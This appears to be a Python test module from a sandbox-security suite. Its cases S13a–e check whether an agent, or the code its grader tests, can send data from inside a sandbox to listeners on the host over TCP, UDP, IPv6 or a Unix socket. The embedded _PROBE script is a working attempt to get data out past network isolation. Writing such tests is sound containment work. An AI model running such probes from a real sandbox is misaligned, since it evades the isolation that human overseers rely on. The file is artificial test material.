"""Attacks that speak to the host over a network, from where agents and tests run (S12, S13).

The host listens on its loopback and its other addresses, in both families, by TCP and UDP, and on
an abstract socket. Whatever is heard there came out; a name server that an agent asks for
`SECRET.example` is one that listens for datagrams.
"""

from __future__ import annotations

import asyncio
import json
import secrets
import socket
from collections.abc import AsyncGenerator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import msgspec
from attack_cases import BLOCKED, Attack
from attack_ground import Ground
from attack_tasks import ANSWER, LIVE, OUTPUTS, honest_reward
from attacks_reward_file import tested
from attacks_sandbox import addresses, new_sandbox, on_host

from ramify.contracts.sandbox import NetworkMode, NetworkPolicy
from ramify.contracts.task import IsolationLevel

_PROBE = """python3 - 'TARGETS' <<'END'
import json, socket, sys
for family, kind, place in json.loads(sys.argv[1]):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1.0)
            line.connect(place if isinstance(place, str) else tuple(place))
            line.send(b"secret")
    except OSError:
        continue
print(42)
END
"""


@dataclass
class _Ears:
    """What the host heard, and where it listens: (family, kind, address)."""

    targets: list[tuple[int, int, object]] = field(default_factory=list[tuple[int, int, object]])
    heard: list[bytes] = field(default_factory=list[bytes])

    @property
    def probe(self) -> str:
        """A script that speaks to each target, then prints 42."""
        return _PROBE.replace("TARGETS", json.dumps(self.targets))

    async def tell(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.heard.append(await reader.read(100))
        writer.close()


class _Datagrams(asyncio.DatagramProtocol):
    def __init__(self, ears: _Ears) -> None:
        self._ears = ears

    def datagram_received(self, data: bytes, addr: object) -> None:
        self._ears.heard.append(data)


@asynccontextmanager
async def _listening() -> AsyncGenerator[_Ears]:
    ears, loop = _Ears(), asyncio.get_running_loop()
    async with AsyncExitStack() as stack:
        name = f"\0ramify-attack-{secrets.token_hex(8)}"
        await stack.enter_async_context(await asyncio.start_unix_server(ears.tell, name))
        ears.targets.append((socket.AF_UNIX, socket.SOCK_STREAM, name))
        for family, anywhere, places in (
            (socket.AF_INET, "0.0.0.0", addresses()),
            (socket.AF_INET6, "::", _addresses_6()),
        ):
            if not places:
                continue
            server = await asyncio.start_server(ears.tell, anywhere, 0)
            await stack.enter_async_context(server)
            datagrams, _ = await loop.create_datagram_endpoint(
                lambda: _Datagrams(ears), (anywhere, 0)
            )
            stack.callback(datagrams.close)
            port = server.sockets[0].getsockname()[1]
            ears.targets += [(family, socket.SOCK_STREAM, [host, port]) for host in places]
            port = datagrams.get_extra_info("sockname")[1]
            ears.targets += [(family, socket.SOCK_DGRAM, [host, port]) for host in places]
        yield ears
        await asyncio.sleep(0.1)


def _addresses_6() -> list[str]:
    """The host's own IPv6 addresses but those of one link; none where it has none."""
    table = Path("/proc/net/if_inet6")
    found = [line.split()[0] for line in table.read_text().splitlines()] if table.exists() else []
    whole = [socket.inet_ntop(socket.AF_INET6, bytes.fromhex(each)) for each in found]
    return [each for each in whole if not each.startswith("fe80")]


async def _all_heard(ground: Ground) -> bool:
    """A process of the host reaches every one of them."""
    async with _listening() as ears:
        await asyncio.to_thread(on_host, ground, ears.probe)
        await asyncio.sleep(0.1)
    return len(ears.heard) == len(ears.targets)


def _by_agent(id: str, shows: str, mode: NetworkMode) -> Attack:
    async def ramify(ground: Ground) -> tuple[str, object]:
        async with (
            _listening() as ears,
            new_sandbox(ground, network=NetworkPolicy(mode)) as sandbox,
        ):
            done = await sandbox.exec(ears.probe, user="root", cwd="/app", timeout_sec=60)
        tried = done.stdout == b"42\n"
        return (BLOCKED if tried and not ears.heard else "reached"), (done, ears.heard)

    async def honest(ground: Ground) -> float:
        async with new_sandbox(ground, network=NetworkPolicy(mode)) as sandbox:
            return float((await sandbox.exec(_OWN, user="root", cwd="/app", timeout_sec=20)).ok)

    return Attack(id, shows, (BLOCKED,), _all_heard, ramify, honest)


_OWN = """python3 - <<'END'
import socket
with socket.create_server(("127.0.0.1", 0)) as server:
    with socket.create_connection(server.getsockname()) as line:
        line.sendall(b"mine")
        assert server.accept()[0].recv(9) == b"mine"
END
"""


def _by_tests(id: str, shows: str, mode: NetworkMode, level: IsolationLevel) -> Attack:
    """The agent's program speaks while it is tested; it answers rightly once it tried them all."""

    async def ramify(ground: Ground) -> tuple[str, object]:
        package = ANSWER.package(ground)
        network = msgspec.structs.replace(package.verifier, network=NetworkPolicy(mode))
        package = msgspec.structs.replace(package, verifier=network)
        async with _listening() as ears, ground.occupied(package, "attack") as ctx:
            await ground.act(ctx, tested(ears.probe))
            result = await ground.field.verifier(level).score(None, ctx)  # type: ignore[arg-type]
        tried = result.reward == 1.0
        return (BLOCKED if tried and not ears.heard else "reached"), (result, ears.heard)

    async def honest(ground: Ground) -> float | None:
        return await honest_reward(ANSWER, level, ground)

    return Attack(id, shows, (BLOCKED,), _all_heard, ramify, honest)


_NONE, _OPEN = NetworkMode.NONE, NetworkMode.OPEN
ATTACKS: list[Attack] = [
    _by_agent(
        "S13a",
        "every address of the host by TCP and UDP, IPv4 and IPv6, from a closed network",
        _NONE,
    ),
    _by_agent("S13b", "the same from an open network", _OPEN),
    _by_tests("S13c", "the same by what is tested, from the sandbox of the tests", _NONE, OUTPUTS),
    _by_tests("S13d", "the same where the tests have an open network", _OPEN, OUTPUTS),
    _by_tests("S13e", "the same where the tests run beside the agent", _NONE, LIVE),
]
